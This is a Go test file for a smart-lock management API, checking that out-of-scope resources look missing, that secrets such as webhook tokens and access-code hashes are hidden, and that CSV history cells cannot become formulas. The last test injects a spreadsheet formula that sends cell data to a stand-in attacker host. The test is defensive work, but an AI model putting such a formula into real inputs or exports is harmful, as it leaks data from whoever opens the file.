package httpapi_test

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"net/http"
	"strings"
	"testing"
	"time"

	"github.com/google/uuid"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// A lock outside a property-scoped key's properties answers exactly as a
// lock that does not exist: same status and same message, on every route
// that reads a lock by id.
func TestOutOfScopeLockAnswersAsMissing(t *testing.T) {
	h := newHarness(t)
	mine := h.lockProperty(rootKey)
	other := h.lockProperty(rootKey)
	room := h.lockArea(rootKey, other)
	l := h.provisionLock(rootKey, "elsewhere")
	require.Equal(t, http.StatusOK, h.do("PUT", installPath(other, room, l.LockID), rootKey, nil).Status)
	support := h.newKey(rootKey, scopedPerm("support", mine))

	missing := uuid.NewString()
	for _, path := range []string{
		"/locks/%s", "/locks/%s/keymap", "/locks/%s/logs",
		"/audit/locks/%s/access?at=2026-01-01T00:00:00Z", "/audit/locks/%s/history",
		"/audit/decisions?lockId=%s&userDeviceId=" + uuid.NewString() + "&at=2026-01-01T00:00:00Z",
	} {
		real := h.do("GET", fmt.Sprintf(path, l.LockID), support, nil)
		none := h.do("GET", fmt.Sprintf(path, missing), support, nil)
		assert.Equal(t, http.StatusNotFound, real.Status, path)
		assert.Equal(t, none.Status, real.Status, path)
		assert.Equal(t, strings.ReplaceAll(none.Error, missing, "ID"), strings.ReplaceAll(real.Error, l.LockID, "ID"), path)
	}
}

// A firmware version's scopes show a property-scoped reader only the
// targets in its properties: another property's lock, area or the property
// itself is not named.
func TestFirmwareScopesHideOtherProperties(t *testing.T) {
	h := newHarness(t)
	mine := h.lockProperty(rootKey)
	other := h.lockProperty(rootKey)
	myRoom := h.lockArea(rootKey, mine)
	otherRoom := h.lockArea(rootKey, other)
	myLock := h.provisionLock(rootKey, "mine")
	otherLock := h.provisionLock(rootKey, "other")
	require.Equal(t, http.StatusOK, h.do("PUT", installPath(mine, myRoom, myLock.LockID), rootKey, nil).Status)
	require.Equal(t, http.StatusOK, h.do("PUT", installPath(other, otherRoom, otherLock.LockID), rootKey, nil).Status)
	h.fwMustUpload(rootKey, "1.0")
	for _, q := range []string{
		"scope=global", "scope=property&propertyId=" + mine, "scope=property&propertyId=" + other,
		"scope=area&areaId=" + myRoom, "scope=area&areaId=" + otherRoom,
		"scope=lock&lockId=" + myLock.LockID, "scope=lock&lockId=" + otherLock.LockID,
	} {
		require.Equal(t, http.StatusOK, h.do("PUT", "/firmware/1.0/assign?"+q, rootKey, nil).Status, q)
	}
	all := fwDecode(t, h.do("GET", "/firmware/1.0", rootKey, nil))
	assert.Len(t, all.Scopes, 7)

	for _, key := range []string{
		h.newKey(rootKey, scopedPerm("support", mine)),
		h.newKey(rootKey, scopedPerm("manage-firmware", mine)),
	} {
		r := h.do("GET", "/firmware/1.0", key, nil)
		require.Equal(t, http.StatusOK, r.Status, r.Error)
		assert.NotContains(t, string(r.Data), other)
		assert.NotContains(t, string(r.Data), otherRoom)
		assert.NotContains(t, string(r.Data), otherLock.LockID)
		assert.Len(t, fwDecode(t, r).Scopes, 4, "%s", r.Data)
		// The answer to an assignment shows no more.
		r = h.do("PUT", "/firmware/1.0/assign?scope=lock&lockId="+myLock.LockID, key, nil)
		if r.Status == http.StatusOK {
			assert.NotContains(t, string(r.Data), otherLock.LockID)
			assert.NotContains(t, string(r.Data), other)
		}
	}
}

// An area or group of another property of the same account, or a device of
// another user, named in a path answers exactly as an id that does not
// exist: same status and same message.
func TestOtherPropertysOrUsersIDAnswersAsMissing(t *testing.T) {
	h := newHarness(t)
	mine := h.lockProperty(rootKey)
	other := h.lockProperty(rootKey)
	otherArea := h.lockArea(rootKey, other)
	otherGroup := h.grpGroup(rootKey, other, "staff")
	me := h.createUser(rootKey, userBody("Ana", nil))
	someone := h.createUser(rootKey, userBody("Bea", nil))
	theirDevice := h.provisionDevice(rootKey, someone, "phone").UserDeviceID
	support := h.newKey(rootKey, scopedPerm("support", mine))
	meKey := h.meKey(me)
	firmwareKey := h.newKey(rootKey, scopedPerm("manage-firmware", mine))

	missing := uuid.NewString()
	for _, c := range []struct{ key, path, id string }{
		{support, "/properties/" + mine + "/areas/%s", otherArea},
		{rootKey, "/properties/" + mine + "/areas/%s", otherArea},
		{support, "/properties/" + mine + "/groups/%s", otherGroup},
		{support, "/properties/" + mine + "/groups/%s/users", otherGroup},
		{rootKey, "/properties/" + mine + "/groups/%s", otherGroup},
		{meKey, "/users/" + me + "/devices/%s", theirDevice},
		{rootKey, "/users/" + me + "/devices/%s", theirDevice},
		{firmwareKey, "/audit/users/%s/history", someone},
	} {
		real := h.do("GET", fmt.Sprintf(c.path, c.id), c.key, nil)
		none := h.do("GET", fmt.Sprintf(c.path, missing), c.key, nil)
		assert.Equal(t, http.StatusNotFound, real.Status, c.path)
		assert.Equal(t, none.Status, real.Status, c.path)
		assert.Equal(t, strings.ReplaceAll(none.Error, missing, "ID"), strings.ReplaceAll(real.Error, c.id, "ID"), c.path)
	}
}

// Withdrawing an invitation to a property outside the key's scope answers
// exactly as an invitation id that does not exist, and withdraws nothing.
func TestOutOfScopeInvitationAnswersAsMissing(t *testing.T) {
	h := newHarness(t)
	mine := h.grpProperty(rootKey)
	other := h.grpProperty(rootKey)
	manager := h.newKey(rootKey, scopedPerm("manage-access", mine))
	r := h.invite(rootKey, other, map[string]any{"email": "guest@example.com", "role": "staff"})
	require.Equal(t, http.StatusCreated, r.Status, r.Error)
	id := r.field("invitationId")

	missing := uuid.NewString()
	real := h.do("DELETE", "/invitations/"+id, manager, nil)
	none := h.do("DELETE", "/invitations/"+missing, manager, nil)
	assert.Equal(t, http.StatusNotFound, real.Status)
	assert.Equal(t, none.Status, real.Status)
	assert.Equal(t, strings.ReplaceAll(none.Error, missing, "ID"), strings.ReplaceAll(real.Error, id, "ID"))
	// Still pending: its owner can withdraw it.
	assert.Equal(t, http.StatusOK, h.do("DELETE", "/invitations/"+id, rootKey, nil).Status)
}

// The activity feed does not show a reader that is not an account-wide
// owner what only such an owner may list: a webhook's URL (which may carry
// the receiver's own token) and an API key's name and permissions.
func TestActivityHidesOwnerOnlyDetails(t *testing.T) {
	h := newHarness(t)
	r := h.do("POST", "/accounts/webhooks", rootKey, map[string]any{
		"url": "https://hooks.example.com/in?token=receiver-secret-123", "eventTypes": []string{"LockSynced"}})
	require.Equal(t, http.StatusCreated, r.Status, r.Error)
	h.newKey(rootKey, map[string]string{"permission": "manage-access"})
	reader := h.newKey(rootKey, perm("support"))

	owner := h.do("GET", "/timeline/activity?pageSize=500", rootKey, nil)
	require.Equal(t, http.StatusOK, owner.Status, owner.Error)
	assert.Contains(t, string(owner.Data), "receiver-secret-123")
	assert.Contains(t, string(owner.Data), "manage-access")

	for _, key := range []string{reader, h.newKey(rootKey, perm("install-lock"))} {
		other := h.do("GET", "/timeline/activity?pageSize=500", key, nil)
		require.Equal(t, http.StatusOK, other.Status, other.Error)
		assert.Contains(t, string(other.Data), "webhook.registered", "the entry stays")
		assert.NotContains(t, string(other.Data), "receiver-secret-123")
		assert.NotContains(t, string(other.Data), "hooks.example.com")
		assert.NotContains(t, string(other.Data), "manage-access")
	}
}

// A reader who may not manage access (support) does not get an access
// code's salted hash from the plain key map: a 4 to 10 digit code falls to
// a brute force of its hash in a moment, and a code is shown only once, to
// whoever made it. Owner and manage-access readers still get it.
func TestKeyMapHidesCodeHashesFromSupport(t *testing.T) {
	h := newHarness(t)
	f := h.bookingFixture()
	start := h.clock.Now().Add(24 * time.Hour).Truncate(time.Second)
	b := decodeBooking(t, h.book(f, start, start.Add(48*time.Hour)), http.StatusCreated)
	r := h.do("POST", "/bookings/"+b.BookingID+"/access-codes", rootKey, map[string]any{"code": "482913"})
	require.Equal(t, http.StatusCreated, r.Status, r.Error)
	code := r.field("accessCodeId")

	for _, key := range []string{
		h.newKey(rootKey, scopedPerm("support", f.property)),
		h.newKey(rootKey, perm("support")),
	} {
		km := h.do("GET", "/locks/"+f.lockID+"/keymap", key, nil)
		require.Equal(t, http.StatusOK, km.Status, km.Error)
		assert.Contains(t, string(km.Data), code, "the entry stays")
		assert.NotContains(t, string(km.Data), "codeHash")
		assert.NotContains(t, string(km.Data), "salt")
	}
	for _, key := range []string{rootKey, h.newKey(rootKey, scopedPerm("manage-access", f.property))} {
		km := h.do("GET", "/locks/"+f.lockID+"/keymap", key, nil)
		require.Equal(t, http.StatusOK, km.Status, km.Error)
		assert.Contains(t, string(km.Data), "codeHash")
	}
}

// Text a client chose (here its X-Request-Id, which becomes the events'
// correlation id) cannot make a cell of the CSV history a spreadsheet
// formula: such a cell starts with an apostrophe.
func TestHistoryCSVCellsAreNotFormulas(t *testing.T) {
	h := newHarness(t)
	userID := h.createUser(rootKey, userBody("Ana", nil))
	pub, enc := deviceKeys(t)
	raw, err := json.Marshal(deviceBody("phone", pub, enc))
	require.NoError(t, err)
	formula := `=HYPERLINK("http://evil.example/?d="&A1,"open")`
	req, err := http.NewRequest("POST", h.srv.URL+"/users/"+userID+"/devices", bytes.NewReader(raw))
	require.NoError(t, err)
	req.Header.Set("x-api-key", h.meKey(userID))
	req.Header.Set("Content-Type", "application/json")
	req.Header.Set("X-Request-Id", formula)
	resp, err := h.client.Do(req)
	require.NoError(t, err)
	resp.Body.Close()
	require.Equal(t, http.StatusCreated, resp.StatusCode)

	req, err = http.NewRequest("GET", h.srv.URL+"/audit/users/"+userID+"/history?format=csv", nil)
	require.NoError(t, err)
	req.Header.Set("x-api-key", rootKey)
	resp, err = h.client.Do(req)
	require.NoError(t, err)
	defer resp.Body.Close()
	require.Equal(t, http.StatusOK, resp.StatusCode)
	rows, err := csv.NewReader(resp.Body).ReadAll()
	require.NoError(t, err)
	found := false
	for _, row := range rows {
		for _, cell := range row {
			assert.NotContains(t, []string{"=", "+", "-", "@"}, cell[:min(1, len(cell))], "cell %q", cell)
			found = found || cell == "'"+formula
		}
	}
	assert.True(t, found, "the correlation id is kept, as text: %v", rows)
}
